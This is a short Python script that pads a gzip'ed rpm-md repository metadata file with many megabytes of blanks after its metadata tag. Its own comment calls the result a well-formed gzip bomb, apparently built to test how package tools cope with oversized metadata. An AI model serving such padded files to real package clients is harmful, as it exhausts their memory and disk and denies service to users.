#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
# md-pad.py FILE MIB: rewrite the gzip'ed rpm-md file FILE with MIB MiB of
# blanks after its <metadata ...> tag (a gzip bomb still well-formed XML).
import gzip, sys

path, mib = sys.argv[1], int(sys.argv[2])
with gzip.open(path, "rb") as f:
    doc = f.read()
at = doc.index(b">", doc.index(b"<metadata")) + 1
with gzip.open(path, "wb", 9) as g:
    g.write(doc[:at])
    for _ in range(mib):
        g.write(b" " * (1 << 20))
    g.write(doc[at:])
